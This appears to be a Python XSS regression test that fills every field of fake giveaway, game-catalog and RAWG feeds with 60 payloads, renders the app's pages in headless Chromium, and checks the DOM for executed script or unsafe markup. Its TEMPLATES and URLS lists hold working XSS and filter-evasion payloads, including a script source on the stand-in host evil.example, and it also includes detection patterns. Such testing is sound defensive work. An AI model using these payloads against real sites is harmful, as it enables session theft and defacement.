"""Hostile upstream text: 60 XSS payloads planted in every text and URL field of a fake GamerPower feed and of a
fake FreeToGame catalog (list and detail), rendered by the real server in headless Chromium (Home, a search, every
Details page, More, Favorites, Claimed, Not interested, Statistics, the catalog, a catalog search, every game page
with its detail, the hidden list, a visitor's note and blocked keyword holding payloads) and of a fake RAWG (Discover's genre tiles, genre pages, game pages). Counts payloads
that executed and unsafe markup that reached the DOM (event-handler attributes, foreign script/iframe/object/
embed/base/meta elements, javascript:/data:/vbscript: links). The CSP would block inline script anyway, so the
DOM is checked too: escaping must hold on its own. Usage: python3 xss.py"""
import json
import sys
import tempfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "lib"))
from harness import Server  # noqa: E402
import fake_upstream  # noqa: E402

TEMPLATES = [
    "<script>window.__xss={k}</script>", "<img src=x onerror=window.__xss={k}>", "<svg onload=window.__xss={k}>",
    "\"><script>window.__xss={k}</script>", "'><img src=x onerror=window.__xss={k}>", "</title><script>window.__xss={k}</script>",
    "<iframe srcdoc=\"<script>parent.__xss={k}</script>\"></iframe>", "<details open ontoggle=window.__xss={k}>",
    "<body onload=window.__xss={k}>", "<math><mi xlink:href=\"javascript:window.__xss={k}\">x</mi></math>",
    "<a href=\"javascript:window.__xss={k}\">click</a>", "<a href=\"jav&#x09;ascript:window.__xss={k}\">tab</a>",
    "<a href=\"&#106;avascript:window.__xss={k}\">ent</a>", "<a href=\" javascript:window.__xss={k}\">sp</a>",
    "<a href=\"data:text/html,<script>window.__xss={k}</script>\">data</a>", "<a href='vbscript:msgbox({k})'>vb</a>",
    "<object data=\"javascript:window.__xss={k}\"></object>", "<embed src=\"javascript:window.__xss={k}\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss={k}\">", "<base href=\"javascript:/\">",
    "<style>*{{background:url('javascript:window.__xss={k}')}}</style>", "<input autofocus onfocus=window.__xss={k}>",
    "<video><source onerror=window.__xss={k}></video>", "<marquee onstart=window.__xss={k}>m</marquee>",
    "{{{{constructor.constructor('window.__xss={k}')()}}}}", "${{window.__xss={k}}}",
    "<scr<script>ipt>window.__xss={k}</scr</script>ipt>", "<SCRIPT SRC=//evil.example/{k}.js></SCRIPT>",
    "<img src=\"x\" onerror=\"window.__xss={k}\"/>", "<svg><script>window.__xss={k}</script></svg>",
]
URLS = [
    "javascript:window.__xss={k}", "JaVaScRiPt:window.__xss={k}", " javascript:window.__xss={k}",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==", "vbscript:msgbox({k})",
    "https://example.com/\"><script>window.__xss={k}</script>", "//evil.example/{k}", "\\\\evil.example\\{k}",
    "https://example.com/' onmouseover='window.__xss={k}", "java\u0000script:window.__xss={k}",
]


def feed(count):
    items = []
    for k in range(count):
        text = TEMPLATES[k % len(TEMPLATES)].format(k=k + 1)
        url = URLS[k % len(URLS)].format(k=k + 1)
        items.append({
            "id": 7000 + k, "title": f"Payload {k + 1} {text}", "worth": text[:20], "thumbnail": url, "image": url,
            "description": f"{text} description {k + 1}", "instructions": f"1. {text}\r\n2. <a href=\"{url}\">link</a>",
            "open_giveaway_url": url, "published_date": "2026-03-30 10:00:00", "type": text,
            "platforms": f"PC, {text}", "end_date": text, "users": k, "status": text, "gamerpower_url": url,
            "open_giveaway": url,
        })
    return json.dumps(items).replace("/", "\\/")


def catalog(count):
    games = []
    for k in range(count):
        text = TEMPLATES[k % len(TEMPLATES)].format(k=k + 101)
        url = URLS[k % len(URLS)].format(k=k + 101)
        games.append({
            "id": 8000 + k, "title": f"Game payload {k + 1} {text}", "thumbnail": url,
            "short_description": f"{text} short {k + 1}", "game_url": url, "genre": text,
            "platform": f"PC (Windows), {text}", "publisher": text, "developer": text, "release_date": text,
            "freetogame_profile_url": url,
        })
    return json.dumps(games)


def wait_catalog(server, seconds=30):
    import time
    import urllib.request
    deadline = time.time() + seconds
    while time.time() < deadline:
        status = json.loads(urllib.request.urlopen(server.base + "/api/v1/status").read())
        source = next((s for s in status["sources"] if s["source"] == "freetogame"), None)
        if source and source["lastAttempt"]:
            return source
        time.sleep(0.1)
    raise TimeoutError("the catalog did not sync")


CHECK = """
const bad = [];
if (window.__xss !== undefined) bad.push('executed ' + window.__xss);
for (const el of document.querySelectorAll('*')) {
  for (const attr of el.attributes) {
    if (/^on/i.test(attr.name)) bad.push('handler ' + el.tagName + ' ' + attr.name);
  }
}
// Allowed: the app's own scripts (app.js and a page's own, e.g. more.js, from /static/ with their version, empty
// and deferred), and its two inert data blocks (the time phrases, the script's texts), once each, in the body,
// holding JSON — nothing else, wherever it comes from.
const dataBlocks = {};
for (const el of document.querySelectorAll('script')) {
  if (/^\\/static\\/[a-z]+\\.js(\\?v=[0-9a-z]+)?$/.test(el.getAttribute('src') || '') && el.defer
      && el.textContent === '') continue;
  const isData = el.type === 'application/json' && !el.hasAttribute('src') && ['time-strings', 'ui-strings'].includes(el.id)
    && el.parentElement === document.body && !dataBlocks[el.id];
  let json = false;
  try { JSON.parse(el.textContent); json = true; } catch (error) { json = false; }
  if (isData && json) dataBlocks[el.id] = true; else bad.push('script element ' + (el.id || el.type || '(plain)'));
}
for (const el of document.querySelectorAll('iframe, object, embed, base, body meta, main meta, main style, main svg:not([aria-hidden]) script'))
  bad.push('element ' + el.tagName);
for (const a of document.querySelectorAll('[href], [src]')) {
  const value = (a.getAttribute('href') || a.getAttribute('src') || '').trim().toLowerCase();
  if (/^(javascript|data|vbscript):/.test(value.replace(/[\\s\\u0000-\\u001f]/g, ''))) bad.push('unsafe link ' + value.slice(0, 40));
}
return bad;
"""


def main():
    from browser_driver import make_driver
    count = 60
    work = Path(tempfile.mkdtemp(prefix="gg-xss-"))
    (work / "xss.json").write_text(feed(count))
    (work / "games.json").write_text(catalog(count))
    upstream = fake_upstream.start(fixture=work / "xss.json", catalog=work / "games.json")
    # RAWG (Discover) answers with a payload in every text and URL field too.
    upstream.RequestHandlerClass.rawg_texts = [
        TEMPLATES[k % len(TEMPLATES)].format(k=k + 201) if k % 3 else URLS[k % len(URLS)].format(k=k + 201)
        for k in range(count)]
    base = f"http://127.0.0.1:{upstream.server_port}"
    server = Server(work / "db.sqlite", upstream=base + "/api",
                    extra=["--rawg-url", base + "/rawg", "--rawg-key", fake_upstream.Upstream.RAWG_KEY])
    server.wait_ready()
    status = server.wait_synced()
    assert status["giveaways"] == count, status
    games = wait_catalog(server)
    assert games["items"] == count, games
    driver = make_driver()
    problems, pages = [], 0
    try:
        driver.get(server.base + "/")
        for k in range(0, count, 3):  # heart some, so Favorites renders payloads too
            driver.execute_script(f"document.querySelector('[data-giveaway-id=\"{7000 + k}\"] .heart').click()")
        # A visitor's own note and a hidden game, each holding a payload.
        driver.execute_script("""
            const body = new URLSearchParams({note: '<script>window.__xss=999</script><img src=x onerror=window.__xss=998>'});
            return fetch('/free-to-play/8001/note', {method: 'POST', body, credentials: 'same-origin'})
              .then(() => fetch('/free-to-play/8002/hide', {method: 'POST', body: new URLSearchParams({hidden: '1'}),
                                                             credentials: 'same-origin'}));""")
        # Claimed and not-interested marks on payload giveaways, and the visitor's own rules holding payloads
        # (a blocked keyword), so that /claimed, /not-interested, /stats and /settings render them.
        driver.execute_script("""
            const post = (url, fields) => fetch(url, {method: 'POST', body: new URLSearchParams(fields),
                                                      credentials: 'same-origin'});
            return Promise.all([1, 4, 7].map((k) => post('/giveaways/' + (7000 + k) + '/mark', {kind: 'claimed', on: '1'})))
              .then(() => post('/giveaways/7002/mark', {kind: 'not-interested', on: '1'}))
              .then(() => post('/settings', {keywords: '</textarea><script>window.__xss=997</script>'}));""")
        paths = ["/", "/?q=payload", "/?q=script", "/more", "/favorites"] + [f"/giveaways/{7000 + k}" for k in range(count)]
        paths += ["/free-to-play", "/free-to-play?q=payload", "/free-to-play/hidden"]
        paths += [f"/free-to-play/{8000 + k}" for k in range(count)]
        paths += ["/discover?genres=all", "/discover/action", "/discover/action?page=2"]
        paths += [f"/discover/games/{10_000 + k}" for k in range(0, count, 2)]
        paths += ["/claimed", "/not-interested", "/?all=1"]
        # Pages of the visitor's own text, of counts or of the server's own text (/api), with no upstream item card.
        own = ["/settings", "/settings/notifications", "/stats", "/api"]
        for path in own:
            driver.get(server.base + path)
            pages += 1
            problems += [f"{path}: {p}" for p in driver.execute_script(CHECK)]
        for path in paths:
            driver.get(server.base + path)
            pages += 1
            problems += [f"{path}: {p}" for p in driver.execute_script(CHECK)]
            # The pages must really show the hostile data (not an error page), or the sweep proves nothing.
            shown = driver.execute_script(
                "return document.querySelectorAll('[data-giveaway-id], [data-game-id], [data-rawg-id], .genre-tile').length")
            if not shown:
                problems.append(f"{path}: shows no upstream item")
    finally:
        driver.quit()
        server.stop()
        upstream.shutdown()
    print(f"{count} payloads in every GamerPower, FreeToGame and RAWG field, {pages} pages rendered in headless Chromium: "
          f"{len(problems)} problems")
    for problem in problems[:20]:
        print("  " + problem)
    print(f"xss: {0 if problems else 1} passed, {1 if problems else 0} failed")
    sys.exit(1 if problems else 0)


if __name__ == "__main__":
    main()
